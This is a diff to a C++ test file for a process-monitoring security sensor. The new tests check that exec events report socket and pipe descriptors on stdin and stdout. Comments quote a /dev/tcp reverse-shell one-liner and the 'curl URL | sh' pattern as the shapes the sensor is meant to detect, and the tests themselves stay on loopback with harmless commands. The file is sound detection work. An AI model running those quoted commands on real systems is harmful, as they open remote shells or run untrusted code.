@@ -1,8 +1,11 @@
 // Root tests: the real BPF programs, real commands, exact event fields.
+#include <arpa/inet.h>
 #include <fcntl.h>
+#include <netinet/in.h>
 #include <openssl/evp.h>
 #include <signal.h>
 #include <sys/mman.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/wait.h>
 #include <unistd.h>
@@ -42,6 +45,50 @@ std::string sha256_hex(const std::string& bytes) {
 void write_file(const std::string& path, const std::string& text, mode_t mode) {
   std::ofstream(path) << text;
   REQUIRE(chmod(path.c_str(), mode) == 0);
+}
+
+uint64_t inode_of(int fd) {
+  struct stat st {};
+  REQUIRE(fstat(fd, &st) == 0);
+  return st.st_ino;
+}
+
+// A TCP connection on loopback: the connecting end and the accepted one.
+struct LoopbackConnection {
+  int client = -1;
+  int server = -1;
+
+  LoopbackConnection() {
+    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    REQUIRE(listener >= 0);
+    sockaddr_in addr{};
+    addr.sin_family = AF_INET;
+    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    socklen_t len = sizeof(addr);
+    REQUIRE(bind(listener, reinterpret_cast<sockaddr*>(&addr), len) == 0);
+    REQUIRE(listen(listener, 1) == 0);
+    REQUIRE(getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len) == 0);
+    client = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    REQUIRE(client >= 0);
+    REQUIRE(connect(client, reinterpret_cast<sockaddr*>(&addr), len) == 0);
+    server = accept4(listener, nullptr, nullptr, SOCK_CLOEXEC);
+    REQUIRE(server >= 0);
+    close(listener);
+  }
+  ~LoopbackConnection() {
+    close(client);
+    close(server);
+  }
+};
+
+// The exec event whose args are exactly `args`.
+Json exec_with_args(const std::vector<Json>& events, const Json& args) {
+  std::vector<Json> found;
+  for (const auto& e : events)
+    if (e["type"] == "exec" && e["process"]["args"] == args) found.push_back(e);
+  INFO("exec events with args " << args.dump());
+  REQUIRE(found.size() == 1);
+  return found[0];
 }
 
 }  // namespace
@@ -185,6 +232,7 @@ TEST_CASE("a setuid change reports the old and new ids", "[root][cred]") {
 TEST_CASE("a process started before the sensor is known by its lineage", "[root][snapshot]") {
   int go[2];
   REQUIRE(pipe(go) == 0);
+  const uint64_t go_ino = inode_of(go[0]);
   pid_t shell = fork();
   REQUIRE(shell >= 0);
   if (shell == 0) {
@@ -218,6 +266,8 @@ TEST_CASE("a process started before the sensor is known by its lineage", "[root]
   CHECK(snap["process"]["exe"] == realpath_of("/bin/sh"));
   CHECK(snap["process"]["args"] == exec["parent"]["args"]);
   CHECK(snap["process"]["key"] == exec["parent"]["key"]);
+  // Its descriptors as the snapshot found them: stdin is the pipe.
+  CHECK(snap["process"]["stdio"]["stdin"] == Json({{"type", "pipe"}, {"ino", go_ino}}));
   CHECK(find_one(events, "exit", shell)["process"]["key"] == exec["parent"]["key"]);
 }
 
@@ -279,4 +329,58 @@ TEST_CASE("executables that are deleted, in a memfd or on tmpfs are flagged", "[
     else
       CHECK(p["exe_file"]["hash_error"].get<std::string>() != "");
   }
+}
+
+TEST_CASE("an exec whose stdin and stdout are a socket reports them (a reverse shell's shape)",
+          "[root][exec]") {
+  LoopbackConnection conn;
+  const uint64_t socket_ino = inode_of(conn.client);
+  SensorProcess sensor;
+  // `bash -i >& /dev/tcp/h/p 0>&1`: the forked child puts the connection on
+  // its standard descriptors, then execs.
+  pid_t child = fork();
+  REQUIRE(child >= 0);
+  if (child == 0) {
+    int devnull = open("/dev/null", O_WRONLY);
+    if (dup2(conn.client, STDIN_FILENO) < 0 || dup2(conn.client, STDOUT_FILENO) < 0 ||
+        dup2(devnull, STDERR_FILENO) < 0)
+      _exit(126);
+    execl("/bin/true", "/bin/true", "reverse", nullptr);
+    _exit(127);
+  }
+  int status;
+  REQUIRE(waitpid(child, &status, 0) == child);
+  REQUIRE(WEXITSTATUS(status) == 0);
+  auto events = sensor.stop();
+
+  Json stdio = find_one(events, "exec", child)["process"]["stdio"];
+  INFO(stdio.dump());
+  CHECK(stdio["stdin"] == Json({{"type", "socket"}, {"ino", socket_ino}}));
+  CHECK(stdio["stdout"] == Json({{"type", "socket"}, {"ino", socket_ino}}));
+  CHECK(stdio["stderr"]["type"] == "char");
+  struct stat null_st {};
+  REQUIRE(stat("/dev/null", &null_st) == 0);
+  CHECK(stdio["stderr"]["ino"] == null_st.st_ino);
+}
+
+TEST_CASE("the two ends of a pipeline share the pipe's inode; closed descriptors are none",
+          "[root][exec]") {
+  SensorProcess sensor;
+  // `curl URL | sh`'s shape. stderr closed for both: "none", inode 0.
+  RunResult run = run_program({"/bin/sh", "-c", "/bin/echo yg-pipe 2>&- | /bin/cat -u - 2>&-"});
+  REQUIRE(exit_code(run) == 0);
+  auto events = sensor.stop();
+
+  Json echo = exec_with_args(events, Json::array({"/bin/echo", "yg-pipe"}))["process"]["stdio"];
+  Json cat = exec_with_args(events, Json::array({"/bin/cat", "-u", "-"}))["process"]["stdio"];
+  INFO(echo.dump() << "\n" << cat.dump());
+  CHECK(echo["stdout"]["type"] == "pipe");
+  CHECK(cat["stdin"]["type"] == "pipe");
+  CHECK(echo["stdout"]["ino"].get<uint64_t>() != 0);
+  CHECK(echo["stdout"]["ino"] == cat["stdin"]["ino"]);
+  // run_program gives the shell /dev/null on stdin and stdout.
+  CHECK(echo["stdin"]["type"] == "char");
+  CHECK(cat["stdout"]["type"] == "char");
+  CHECK(echo["stderr"] == Json({{"type", "none"}, {"ino", 0}}));
+  CHECK(cat["stderr"] == Json({{"type", "none"}, {"ino", 0}}));
 }
